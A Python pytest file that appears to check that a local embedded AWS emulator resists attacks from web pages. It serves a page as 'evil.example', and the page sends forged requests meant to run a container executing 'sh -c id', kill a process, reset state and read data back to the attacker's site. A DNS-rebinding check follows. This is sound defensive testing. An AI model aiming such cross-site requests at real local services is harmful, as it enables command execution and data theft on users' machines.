"""A page in a real browser tries the embedded AWS: it starts nothing, ends nothing and reads nothing.

The page is served by us as http://evil.example, a name that the browser is told to find on this machine.
"""

from __future__ import annotations

import contextlib
import json
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests.local.chromium import chromium
from tests.local.door_support import ECS, address_of
from tests.local.support import Client, process_image, subnet
from tests.waiting import PATIENCE_S, until

from aws_run.local.embedded import Embedded
from aws_run.local.options import LocalAws

_ENTRY = "AWS4-HMAC-SHA256 Credential=AKIAX/20260101/us-east-1/%s/aws4_request, SignedHeaders=host, Signature=0"
# One `[name, url, options]` after the other; what the page could read of each answer is what it reports.
_PAGE = """<!doctype html><title>evil</title><script>
const steps = %s;
(async () => {
  const read = {};
  for (const [name, url, options] of steps) {
    try { read[name] = await (await fetch(url, options)).text(); } catch (error) { read[name] = null; }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(read)});
})();
</script>"""


class EvilSite:
    """Serves the page, and keeps what the page reports."""

    def __init__(self, steps: list[Any]) -> None:
        self.report: dict[str, str | None] | None = None
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._send(_PAGE % json.dumps(steps))

            def do_POST(self) -> None:
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self._send("")

            def _send(self, text: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, format: str, *args: Any) -> None:
                """stderr is the tests'."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextlib.contextmanager
def browser(*arguments: str) -> Iterator[subprocess.Popen[str]]:
    """Headless, with no network but this machine, and without its own guard of local addresses: the embedded AWS must
    not need it. No sandbox, for the tests may run as root; every page it sees is ours."""
    with tempfile.TemporaryDirectory(prefix="arun-chromium-") as profile:
        child = subprocess.Popen(
            [
                chromium(), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--no-first-run", "--no-proxy-server", f"--user-data-dir={profile}",
                "--host-resolver-rules=MAP * 127.0.0.1",
                "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests", *arguments,
            ],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, text=True,
        )  # fmt: skip
        try:
            yield child
        finally:
            child.terminate()
            child.communicate(timeout=PATIENCE_S)


def test_a_page_starts_nothing_ends_nothing_and_reads_nothing(
    embedded: Embedded, local_aws: LocalAws, client: Client, tmp_path: Path
) -> None:
    image = process_image(local_aws, client, tmp_path / "project", {"main.py": "print('mine')\n"})
    client("ecs").create_cluster(clusterName="arun-a")
    pwned = tmp_path / "pwned"
    victim = subprocess.Popen(["sleep", "600"])
    container = {"name": "job", "image": image, "entryPoint": ["sh", "-c", f"id > {pwned}"]}
    definition = {
        "family": "pwned", "requiresCompatibilities": ["FARGATE"], "networkMode": "awsvpc", "cpu": "256", "memory": "512",
        "containerDefinitions": [container],
    }  # fmt: skip
    task = {
        "cluster": "arun-a", "taskDefinition": "pwned:1", "launchType": "FARGATE",
        "networkConfiguration": {"awsvpcConfiguration": {"subnets": [subnet(client)]}},
    }  # fmt: skip
    there = local_aws.endpoint_url

    def call(service: str, target: str, body: object) -> list[Any]:
        headers = {"Authorization": _ENTRY % service, "X-Amz-Target": target}
        # The query makes the preflight look signed.
        url = f"{there}/?X-Amz-Credential=AKIAX/20260101/us-east-1/s3/aws4_request"
        return [url, {"method": "POST", "headers": headers, "body": json.dumps(body)}]

    kill = json.dumps({"pid": victim.pid, "at": 1, "when": "before"})
    tasks_there = f"http://127.0.0.1:{embedded.world.tasks_port}"
    steps = [
        [
            "images",
            *call("ecr", "AmazonEC2ContainerRegistry_V20150921.DescribeImages", {"repositoryName": "arun/demo"}),
        ],
        ["register", *call("ecs", f"{ECS}.RegisterTaskDefinition", definition)],
        ["run", *call("ecs", f"{ECS}.RunTask", task)],
        ["moto", f"{there}/moto-api/data.json", {}],
        ["status", f"{there}/_aws-run/status", {}],
        ["task", f"{tasks_there}/v4/x/job/task", {}],
        ["kill", f"{there}/_aws-run/kill", {"method": "POST", "mode": "no-cors", "body": kill}],
        ["any", f"{there}/", {"method": "POST", "mode": "no-cors", "body": "x"}],
        ["reset", f"{there}/moto-api/reset", {"method": "POST", "mode": "no-cors"}],
        ["clock", f"{there}/_aws-run/clock?advance_s=99999", {"method": "POST", "mode": "no-cors"}],
    ]
    site = EvilSite(steps)
    try:
        with browser(f"http://evil.example:{site.port}/"):
            read = until(lambda: site.report)
        assert set(read) == {step[0] for step in steps}
        assert [name for name, text in read.items() if text] == []  # opaque answers are empty, refused ones null
        client("ecs").list_clusters()  # the call that a kill would have waited for
        assert victim.poll() is None
        assert client("ecs").list_clusters()["clusterArns"] != []
        assert client("ecs").list_task_definition_families()["families"] == []
        assert client("ecs").list_tasks(cluster="arun-a")["taskArns"] == []
        assert embedded.world.clock.seconds() < 9999
        assert not pwned.exists()
    finally:
        site.close()
        victim.kill()
        victim.wait()


@pytest.mark.parametrize("path", ["/_aws-run/status", "/moto-api/data.json", "/_aws-run/calls"])
def test_a_name_that_was_made_to_point_here_reads_nothing(local_aws: LocalAws, path: str) -> None:
    port = address_of(local_aws.endpoint_url).rpartition(":")[2]
    with browser("--dump-dom", "--timeout=20000", f"http://rebound.example:{port}{path}") as child:
        shown, _ = child.communicate(timeout=90)
    assert "answers programs on this machine, no web page" in shown
    assert local_aws.account not in shown
